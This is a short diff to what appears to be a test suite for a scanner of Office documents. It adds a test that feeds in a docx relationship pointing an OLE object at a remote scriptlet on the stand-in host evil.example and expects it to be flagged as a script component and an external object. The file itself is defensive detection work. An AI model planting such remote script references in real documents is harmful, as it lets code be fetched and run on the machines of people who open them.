@@ -156,3 +156,8 @@ test('a file packed into a document is listed by its own name', async () => {
   );
   expect(content.entries.map((entry) => entry.name)).toEqual(['oleObject1.bin/run.exe']);
 });
+
+test('a script component that a document points at', async () => {
+  const points = relationships([{ type: 'oleObject', target: 'script:https://evil.example/window.sct' }]);
+  expect((await look(office('docx', 'x', [points]), 'a.docx')).traits).toEqual(['script-component', 'external-object']);
+});
